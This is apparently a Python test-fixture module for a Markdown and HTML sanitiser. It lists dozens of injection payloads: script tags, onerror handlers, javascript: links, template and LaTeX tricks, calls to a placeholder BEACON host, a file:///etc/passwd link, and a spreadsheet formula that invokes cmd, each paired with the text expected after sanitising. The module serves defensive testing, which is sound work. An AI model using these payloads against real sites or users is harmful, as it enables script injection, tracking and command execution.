"""What a hostile model, person or administrator may write: BEACON stands for a server that nobody may ask, HOST for its
host and port. Whatever could run would set `window.harmed`.
"""

from collections.abc import Mapping

HARM = "window.harmed=1"

HTML = {
    "script": f"<script>{HARM};fetch('BEACON/script')</script>",
    "script from elsewhere": "<script src='BEACON/src.js'></script>",
    "module": f"<script type=module>import 'BEACON/module.js';{HARM}</script>",
    "image": f"<img src='BEACON/img' onerror=\"{HARM}\">",
    "image set": "<picture><source srcset='BEACON/srcset'><img srcset='BEACON/srcset2 2x'></picture>",
    "svg": f"<svg onload=\"{HARM}\"><image href='BEACON/svg'/><use href='BEACON/use#x'/></svg>",
    "frame": f"<iframe src='BEACON/frame' srcdoc='<script>top.{HARM}</script>'></iframe>",
    "object": "<object data='BEACON/object'></object> <embed src='BEACON/embed'>",
    "video": "<video poster='BEACON/poster' src='BEACON/video' autoplay></video> <audio src='BEACON/audio'></audio>",
    "style": "<style>@import url('BEACON/import');body{display:none}</style>",
    "style attribute": "<div style=\"background:url('BEACON/bg');position:fixed;inset:0\">cover</div>",
    "link": "<link rel=stylesheet href='BEACON/css'> <link rel=prefetch href='BEACON/prefetch'>",
    "refresh": "<meta http-equiv=refresh content='0;url=BEACON/refresh'>",
    "base": "<base href='BEACON/base/'>",
    "form": f"<form action='BEACON/form'><button autofocus onfocus=\"{HARM}\">Vote</button></form>",
    "events": f"<details open ontoggle=\"{HARM}\"><summary>x</summary></details> <b onmouseover='{HARM}'>over</b>",
    "animation": f'<svg><animate onbegin="{HARM}" attributeName=x dur=1s></svg> <marquee onstart={HARM}>go</marquee>',
    "mathml": f"<math><maction actiontype='statusline' xlink:href='javascript:{HARM}'>click</maction></math>",
    "mutation": f'<noscript><p title="</noscript><img src=x onerror={HARM}>"></noscript>',
    "comment": f"<!--> <img src='BEACON/comment'> --> <![CDATA[<script>{HARM}</script>]]> <?php phpinfo() ?>",
    "conditional": "<!--[if IE]><img src='BEACON/ie'><![endif]-->",
    "unfinished tag": "<img src='BEACON/unfinished' alt=",
    "tag over lines": f"<img\nsrc='BEACON/lines'\nonerror={HARM}>",
    "link of HTML": f"<a href='javascript:{HARM}'>here</a> <a href='BEACON/ping' ping='BEACON/ping'>there</a>",
    "template": "{{constructor.constructor('window.harmed=1')()}} ${7+7} <%= 7+7 %> #{7+7}",
}

IMAGES = {
    "inline image": "![inline](BEACON/inline.png)",
    "image of the same scheme": "![same](//HOST/same.png)",
    "image by reference": "![by reference][pic]\n\n[pic]: BEACON/reference.png",
    "image by its own name": "![short] ![collapsed][]\n\n[short]: BEACON/short.png\n[collapsed]: BEACON/collapsed.png",
    "image in a link": "[![linked](BEACON/linked.png)](BEACON/target)",
    "image with brackets": "![a [b] c](BEACON/brackets.png) ![d\\]e](BEACON/escaped.png)",
    "image in angles": '![angles](<BEACON/an gles.png> "a title")',
    "image in a table": "| a | b |\n| - | - |\n| ![cell](BEACON/cell.png) | x |",
    "image in a list": "- ![item](BEACON/item.png)\n- > ![quoted](BEACON/quoted.png)",
    "image in a footnote": "word[^1]\n\n[^1]: ![note](BEACON/note.png)",
    "image over lines": "![over\nlines](\nBEACON/over.png\n)",
    "image of data": "![data](data:image/svg+xml,<svg/onload=window.harmed=1>)",
    "image by entities": "&#33;[entity](BEACON/entity.png) !&#91;entity](BEACON/entity2.png)",
}
LINKS = {
    "script link": "[run](javascript:window.harmed=1)",
    "script link in disguise": "[run](JaVaScRiPt:window.harmed=1) [run](&#106;avascript:window.harmed=1)",
    "script link in angles": "[run](<javascript:window.harmed=1>) [run](< javascript:window.harmed=1>)",
    "script link with a tab": "[run](java\tscript:window.harmed=1) [run](\x01javascript:window.harmed=1)",
    "script link by reference": "[run][js] [js]\n\n[js]: javascript:window.harmed=1",
    "script link by itself": "<javascript:window.harmed=1>",
    "data link": "[open](data:text/html,<script>window.harmed=1</script>)",
    "other schemes": "[vb](vbscript:window.harmed=1) [file](file:///etc/passwd) [blob](blob:null/x)",
    "title with a quote": '[title](BEACON/title "x" onmouseover="window.harmed=1")',
    "link of the same scheme": "[same](//HOST/away) www.HOST/www",
}
DIRECTIVES = {
    "colours": ":red[x] :blue-background[x] :rainbow[x] :gray-badge[x] :small[x] :shimmer[x]",
    "icons": ":material/home: :material/delete: :streamlit: :smile: :+1:",
    "container": ":::note{onclick=window.harmed=1}\ninside\n:::",
    "leaf": "::video[x]{src=BEACON/leaf onclick=window.harmed=1}",
    "text directive": ":a[run]{href=javascript:window.harmed=1} :help[x]",
    "colour around a link": ":red[[run](javascript:window.harmed=1)]",
    "arrows": "a -> b <- c -- d >= e <= f",
}
FORMULAS = {
    "formula with a link": "$\\href{javascript:window.harmed=1}{run}$",
    "formula with an address": "$\\url{javascript:window.harmed=1}$",
    "formula with an image": "$\\includegraphics[height=9em]{BEACON/formula.png}$",
    "formula with attributes": "$\\htmlData{x=y}{a} \\htmlClass{stApp}{b} \\htmlStyle{position:fixed}{c}$",
    "formula with tags": "$<img src=BEACON/tex onerror=window.harmed=1>$ $![x](BEACON/texmd)$",
    "formula without end": "$\\def\\a{\\a\\a}\\a$",
    "formula of a mile": "$\\rule{9999em}{9999em}$",
    "shown formula with a link": "$$\\href{javascript:window.harmed=1}{run}$$",
    "money": "$5 and $6",
}
CODE = {
    "diagram": '```mermaid\ngraph TD; A["<img src=BEACON/mermaid onerror=window.harmed=1>"]-->B\n```',
    "code of HTML": "```html\n<img src='BEACON/fence' onerror='window.harmed=1'>\n```",
    "language with a quote": '```"><img src=BEACON/info onerror=window.harmed=1>\nx\n```',
    "code span": "`<img src=BEACON/span>` ``![x](BEACON/span2)``",
    "indented code": "    <script src='BEACON/indented'></script>\n    ![x](BEACON/indented2)",
}
CHARACTERS = {
    "turned text": "\u202egnp.evil\u202c \u2066isolated \u202eopen",
    "invisible": "in\u200bvis\u200dib\ufeffle \u2063x",
    "terminal": "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x9b2J",
    "zalgo": "z" + "\u0301\u0316\u035c" * 60 + "algo",
    "entities": "&lt;img src=BEACON/entities&gt; &#60;script&#62; &amp;lt;",
    "spreadsheet": "=HYPERLINK(\"BEACON/cell\") +1+1 -1+1 @SUM(1+1) =cmd|' /C calc'!A0",
    "front matter": "---\nlayout: BEACON\n---",
    "tasks": "- [ ] open\n- [x] done",
}
PAYLOADS: Mapping[str, str] = {**HTML, **IMAGES, **LINKS, **DIRECTIVES, **FORMULAS, **CODE, **CHARACTERS}

# What a reader sees where it is not the very text: Markdown that means no harm, and what is left of the harmful.
SHOWN: Mapping[str, str] = {
    "inline image": "🖼️ inline",
    "image of the same scheme": "🖼️ same",
    "image by reference": "!by reference",
    "image by its own name": "!short !collapsed",
    "image in a link": "[🖼️ linked](BEACON/target)",
    "image with brackets": "!a [b] c !d]e",
    "image in angles": '🖼️ [angles](<BEACON/an gles.png> "a title")',
    "image in a table": "a b 🖼️ cell x",
    "image in a list": "🖼️ item 🖼️ quoted",
    "image in a footnote": "word[^1] [^1]: 🖼️ note",
    "image over lines": "🖼️ over lines",
    "image of data": "🖼️ [data](data:image/svg+xml,<svg/onload=window.harmed=1>)",
    "image by entities": "!entity ![entity](BEACON/entity2.png)",
    "script link in disguise": "[run](JaVaScRiPt:window.harmed=1) run",
    "script link with a tab": "[run](java script:window.harmed=1) run",
    "script link by reference": "run js",
    "link of the same scheme": "same www.HOST/www",
    "diagram": 'graph TD; A["<img src=BEACON/mermaid onerror=window.harmed=1>"]-->B',
    "code of HTML": "<img src='BEACON/fence' onerror='window.harmed=1'>",
    "language with a quote": "x",
    "code span": "<img src=BEACON/span> ![x](BEACON/span2)",
    "terminal": "\ufffd[31mred\ufffd[0m \ufffd]0;title\ufffd \ufffd2J",
    "entities": "<img src=BEACON/entities> <script> &lt;",
    "front matter": "layout: BEACON",
    "tasks": "open done",
}
TYPESET = frozenset(FORMULAS) - {"money"}  # shown as formulas, or as the name of the command that is not obeyed

# Names, organisations, licences and addresses that an administrator's file may hold, and names of imported votes.
NAMES = (
    "<img src='BEACON/name' onerror='window.harmed=1'>",
    "![n](BEACON/name.png) [run](javascript:window.harmed=1)",
    "Ev*il* $5 :red[x] :smile: :material/home: -> `code` $\\href{javascript:window.harmed=1}{x}$",
    '=HYPERLINK("BEACON/cell")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<script>window.harmed=1</script>",
    "[/red][link=BEACON/rich]x[/link] {{7+7}} ${7+7} %s %(x)s",
)
CARD = "BEACON/card>)![card](BEACON/card.png)[run](javascript:window.harmed=1)<"
